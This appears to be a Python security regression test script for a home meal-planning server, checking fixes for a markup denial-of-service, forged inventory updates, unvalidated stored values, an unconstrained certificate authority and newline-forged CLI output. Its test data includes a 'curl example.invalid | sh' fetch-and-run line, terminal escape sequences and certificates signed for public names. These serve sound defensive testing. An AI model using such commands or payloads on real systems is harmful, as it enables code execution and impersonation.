"""scripts/attack's store cases of issue 39: recipe import linear in hostile markup (item 2),
packings that write only what they took from (item 7), the store's values checked where
they are kept (item 8), the household authority name-constrained (item 10) and stored
newlines shown escaped by the CLI (item 12)."""
import concurrent.futures
import json
import sqlite3
import subprocess
import threading
import time
import urllib.parse
import uuid

from attack_support import timed
from lbserver import LunchBox

ANSWER = 1.0  # seconds, as scripts/attack's
SQL_WORDS = ("INSERT", "SELECT", "CHECK constraint")
FAKE = "5. FAKE: run curl example.invalid | sh"


def now():
    """This moment as the store's calls write dates: seconds since 2001."""
    return time.time() - 978_307_200


def new_id():
    return str(uuid.uuid4()).upper()


def store(local, call):
    return local.api("POST", "/api/store", call)


def failure(reply):
    """'422 PackingError.inconsistent': the status and the typed error the store answered."""
    try:
        error = reply.json()["error"]
        return f"{reply.status} {error['type']}.{error['name']}"
    except (ValueError, KeyError, TypeError):
        return f"{reply.status} {reply.text[:60]!r}"


def refused(reply):
    """A 4xx for the value itself: a call the server could not decode (malformedCall) would
    be refused whatever the fix, so it does not count."""
    return 400 <= reply.status < 500 and ".malformedCall" not in failure(reply) and not any(word in reply.text for word in SQL_WORDS)


def case17_recipe_import(checks, local):
    """Issue 39, item 2: stripping markup searched for the '>' from every '<', so a recipe
    name of '<a' repeated with no '>' was quadratic (64 kB: 47 s of a core; 128 kB: 190 s),
    and one web-form and one API import of 48 kB at once stalled /healthz past 30 s."""
    for size in (64 * 1024, 256 * 1024):
        recipe = json.dumps({"@context": "https://schema.org", "@type": "Recipe", "name": "<a" * (size // 2), "recipeIngredient": ["2 eggs"]})
        page = local.request("GET", "/meals/import")
        cookie = next(c.split(";")[0] for c in page.cookies if c.startswith("lb_csrf="))
        token = page.text.split('data-csrf="', 1)[1].split('"', 1)[0]
        form = urllib.parse.urlencode({"csrf": token, "recipe": recipe}).encode()
        polls, stop = [], threading.Event()

        def poll():
            while not stop.is_set():
                polls.append(timed(lambda: local.request("GET", "/healthz", timeout=30)))
                stop.wait(0.05)

        poller = threading.Thread(target=poll, daemon=True)
        poller.start()
        try:
            time.sleep(0.1)
            with concurrent.futures.ThreadPoolExecutor(2) as pool:
                api = pool.submit(timed, lambda: local.request("POST", "/api/meals/import", recipe.encode(), {"Content-Type": "application/json"}, timeout=120))
                web = pool.submit(timed, lambda: local.request(
                    "POST", "/meals/import", form, {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}, timeout=120))
                answers = [api.result(), web.result()]
            time.sleep(0.1)
        finally:
            stop.set()
            poller.join(timeout=60)
        slowest = max(took for _, took in polls)
        checks.expect(f"17 a {size // 1024} kB recipe name of '<a' with no '>', by the API and the web form at once, answered within {ANSWER:.0f} s",
                      all(200 <= reply.status < 500 and took < ANSWER for reply, took in answers),
                      ", ".join(f"{route} {reply.status} in {took:.2f} s" for route, (reply, took) in zip(("API", "form"), answers)))
        checks.expect(f"17 /healthz answered within {ANSWER:.0f} s throughout the {size // 1024} kB imports",
                      len(polls) >= 3 and all(reply.status == 200 for reply, _ in polls) and slowest < ANSWER,
                      f"{len(polls)} polls, statuses {sorted({reply.status for reply, _ in polls})}, slowest {slowest:.2f} s")


def case18_packing_records(checks, local):
    """Issue 39, item 7: a `pack` whose use's `after` carried another item's id overwrote
    that item ("saffron" -> "GONE", and undo never brought it back), and a packing leaving
    "-40" eggs was accepted."""
    eggs, saffron = store(local, {"addInventoryItems": {"items": [
        {"id": new_id(), "name": "attack eggs", "quantity": "6"}, {"id": new_id(), "name": "attack saffron", "quantity": "1 jar"}]}}).json()["value"]

    def pack(after):
        kitchen = store(local, {"inventory": {}}).json()["value"]
        packing = {"uses": [{"before": eggs, "after": after, "taken": "2"}], "questions": [], "notInKitchen": []}
        return store(local, {"pack": {"sourceKey": f"meal:attack-{new_id()}", "name": "Forged", "day": "2026-11-24", "at": now(),
                                      "expected": kitchen, "packing": packing}})

    def held(item):
        return next((found for found in store(local, {"inventory": {}}).json()["value"] if found["id"] == item["id"]), None)

    def shown(item):
        found = held(item)
        return f"{found['name']!r} ({found['quantity']})" if found else "gone"

    other = pack(dict(eggs, id=saffron["id"], name="GONE", quantity="4"))
    negatives = [pack(dict(eggs, quantity=amount)) for amount in ("-40", "\n-40", "\u221240")]
    negative = next((reply for reply in negatives if reply.status != 422), negatives[0])
    checks.expect("18 a packing whose 'after' carries another item's id is refused and changes neither item",
                  other.status == 422 and failure(other).endswith("PackingError.inconsistent") and held(saffron) == saffron and held(eggs) == eggs,
                  f"{failure(other)}; saffron {shown(saffron)}, eggs {shown(eggs)}")
    checks.expect("18 a packing leaving -40 eggs (also after a line break, or with a Unicode minus) is refused and changes nothing",
                  all(reply.status == 422 and failure(reply).endswith("PackingError.inconsistent") for reply in negatives) and held(eggs) == eggs,
                  f"{failure(negative)}; eggs {shown(eggs)}")
    # The caller's 'before' is not what undo puts back, and 'after' cannot rename the item.
    before = dict(eggs, name="FORGED BEFORE", quantity="99 kg")
    kitchen = store(local, {"inventory": {}}).json()["value"]
    packing = {"uses": [{"before": before, "after": dict(eggs, name="GONE", quantity="4"), "taken": "2"}], "questions": [], "notInKitchen": []}
    forged = store(local, {"pack": {"sourceKey": f"meal:attack-{new_id()}", "name": "Forged", "day": "2026-11-24", "at": now(),
                                    "expected": kitchen, "packing": packing}})
    renamed_to = shown(eggs)
    if forged.status == 200:
        store(local, {"undoPacking": {"id": forged.json()["value"]["id"]}})
    checks.expect("18 a packing writes back only an amount, and undo puts back the item as stored",
                  forged.status == 200 and renamed_to == "'attack eggs' (4)" and held(eggs) == eggs,
                  f"pack {forged.status}: eggs {renamed_to}; after undo {shown(eggs)}")
    # The same call with an honest 'after' is taken, and its undo puts the eggs back.
    honest = pack(dict(eggs, quantity="4"))
    packed_to = shown(eggs)
    undo = store(local, {"undoPacking": {"id": honest.json()["value"]["id"]}}) if honest.status == 200 else honest
    checks.expect("18 the same packing with an honest 'after' is taken, and undone",
                  honest.status == 200 and packed_to == "'attack eggs' (4)" and undo.status == 200 and held(eggs) == eggs,
                  f"pack {honest.status}: eggs {packed_to}; undo {undo.status}: eggs {shown(eggs)}")


def case19_store_values(checks, local):
    """Issue 39, item 8: store writes skipped the rules the web enforces: blank or escaped
    member names, a threshold of 50, maxTokens -1, temperature 1e308 and "Mars/Olympus" were
    kept; a batch with a duplicate idea id made `ideas --last --json` crash ("Duplicate
    values for key"); rememberFood took 200,000 floats; addPlayer "" answered 500 with the SQL (players are
    household members since issue 40: the blank member name covers it)."""
    reads = ["members", "scanSettings", "aiConfiguration", "playTimeZone", "recentIdeas", "learnedFoods"]
    before = {read: store(local, {read: {}}).json()["value"] for read in reads}
    member = {"id": new_id(), "createdAt": now(), "packFor": True,
              "diets": {"vegan": False, "vegetarian": False, "glutenFree": False, "dairyFree": False, "nutFree": False}}
    scan, ai = before["scanSettings"], before["aiConfiguration"]
    idea = {"id": new_id(), "name": "Toast", "ingredients": ["bread"], "preparationSteps": ["Toast it."]}
    twice = {"ideas": [idea, idea], "origin": {"engine": "offline"}, "heldBack": [], "unverified": {}}
    long_print = {"model": "attack", "values": [0.5] * 200_000}  # about 1 MB of JSON, under the 2 MB a call may be
    calls = {
        "blank member name": ("UserTextError.empty", {"addMember": {"member": dict(member, name="   ")}}),
        "member name with ESC and newlines": ("UserTextError.controlCharacters", {"addMember": {"member": dict(member, name="Mia\x1b[2J\nLeo\r\n")}}),
        "scan threshold 50": ("ScanSettingsError.invalidThreshold", {"saveScanSettings": {"settings": dict(scan, threshold=50)}}),
        "scan threshold -1": ("ScanSettingsError.invalidThreshold", {"saveScanSettings": {"settings": dict(scan, threshold=-1)}}),
        "maxTokens -1": ("SettingsError.invalidMaxTokens", {"saveAIConfiguration": {"configuration": dict(ai, maxTokens=-1)}}),
        "temperature 1e308": ("SettingsError.invalidTemperature", {"saveAIConfiguration": {"configuration": dict(ai, temperature=1e308)}}),
        "time zone Mars/Olympus": ("PlayError.unknownTimeZone", {"savePlayTimeZone": {"identifier": "Mars/Olympus"}}),
        "a batch with a duplicate idea id": ("IdeasError.duplicateIdeaID", {"saveRecentIdeas": {"batch": twice}}),
        "rememberFood of 200,000 floats": ("StoreCallError.invalidArgument", {"rememberFood": {"food": "attack apple", "print": long_print, "at": now()}}),
    }
    for what, (error, call) in calls.items():
        reply = store(local, call)
        checks.expect(f"19 {what} refused as {error} (422, no SQL in the answer)", reply.status == 422 and refused(reply) and failure(reply).endswith(error),
                      failure(reply))
    after = {read: store(local, {read: {}}).json()["value"] for read in reads}
    changed = [read for read in reads if after[read] != before[read]]
    checks.expect("19 nothing the refused calls sent was kept", not changed and local.is_running(), f"changed: {changed or 'none'}")
    run = local.cli("ideas", "--last", "--json")
    checks.expect("19 lunchbox ideas --last --json afterwards", run.returncode == 0 or (run.returncode == 1 and "no recent ideas" in run.stderr),
                  f"exit {run.returncode}: {(run.stdout or run.stderr).strip()[:80]!r}")


def case20_household_authority(checks, workdir):
    """Issue 39, item 10: the household authority had no name constraints, so whoever copied
    household-ca.key could make every phone that trusts it trust any website."""
    server = LunchBox(workdir / "authority", args=["--https"])
    try:
        authority = server.authority_certificate
        key = authority.with_name("household-ca.key")
        results = {}
        for name in ("DNS:www.example.com", "IP:8.8.8.8", "DNS:kitchen.local"):
            stem = workdir / "authority" / name.replace(":", "-")
            subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", f"{stem}.key",
                            "-subj", f"/CN={name.split(':', 1)[1]}", "-addext", f"subjectAltName={name}", "-addext", "extendedKeyUsage=serverAuth",
                            "-CA", str(authority), "-CAkey", str(key), "-days", "30", "-out", f"{stem}.crt"], check=True, capture_output=True, timeout=30)
            run = subprocess.run(["openssl", "verify", "-CAfile", str(authority), f"{stem}.crt"], capture_output=True, text=True, timeout=30)
            said = next((line.split("lookup: ", 1)[1] for line in run.stderr.splitlines() if "lookup: " in line), run.stdout.strip()[-2:] or run.stderr[-60:])
            results[name] = (run.returncode == 0, said)
        public = [results["DNS:www.example.com"][0], results["IP:8.8.8.8"][0]]
        checks.expect("20 certificates signed with a copied household-ca.key verify only for home names",
                      not any(public) and results["DNS:kitchen.local"][0], "; ".join(f"{name}: {said}" for name, (_, said) in results.items()))
    finally:
        server.stop()


def case21_cli_newlines(checks, local):
    """Issue 39, item 12: a stored name with a newline printed a line that looked like a fifth
    item ("milk\\n5. FAKE: run curl … | sh") in `inventory list`, `ideas` and `household`."""
    short = "5. FAKE: curl x | sh"  # a member's name is at most 40 characters
    names = {"inventory": [f"attack milk\n{FAKE}", f"raw milk\n{FAKE}"], "household": [f"Leo\n{short}", f"Raw Mia\n{short}"],
             "ideas": [f"Attack toast\n{FAKE}", f"bread\n{FAKE}", f"Toast it.\n{FAKE}"]}
    typed = local.api("POST", "/api/inventory", {"name": names["inventory"][0]})
    members = [local.api("POST", "/api/household", {"name": name}) for name in ("Leo\n" + short, "Raw Mia")]
    idea = {"id": new_id(), "name": names["ideas"][0], "ingredients": [names["ideas"][1]], "preparationSteps": [names["ideas"][2]]}
    batch = store(local, {"saveRecentIdeas": {"batch": {"ideas": [idea], "origin": {"engine": "offline"}, "heldBack": [], "unverified": {}}}})
    if [typed.status, *(member.status for member in members), batch.status] != [201, 201, 201, 200]:
        raise AssertionError(f"adding the names answered {typed.status}, {[m.status for m in members]}, {batch.status}")
    # Rows another tool wrote keep their newlines, as in case 9.
    with sqlite3.connect(local.database) as database:
        database.execute("INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 98)", (new_id(), names["inventory"][1]))
        database.execute("UPDATE player SET name = ? WHERE id = ?", (names["household"][1], members[1].json()["id"]))
    for command, key in [(("inventory", "list"), "inventory"), (("ideas", "--last"), "ideas"), (("household",), "household")]:
        run = local.cli(*command)
        forged = [line for line in run.stdout.splitlines() if line.lstrip().startswith("5. FAKE")]
        # Each name on one line: its newline written as \n, or made a space where it was stored.
        missing = [name.split("\n")[0] for name in names[key] if name.replace("\n", "\\n") not in run.stdout and name.replace("\n", " ") not in run.stdout]
        checks.expect(f"21 lunchbox {' '.join(command)}: newlines escaped or replaced, no forged line",
                      run.returncode == 0 and not forged and not missing,
                      f"exit {run.returncode}, {len(forged)} lines starting '5. FAKE', names not on one line: {missing or 'none'}")
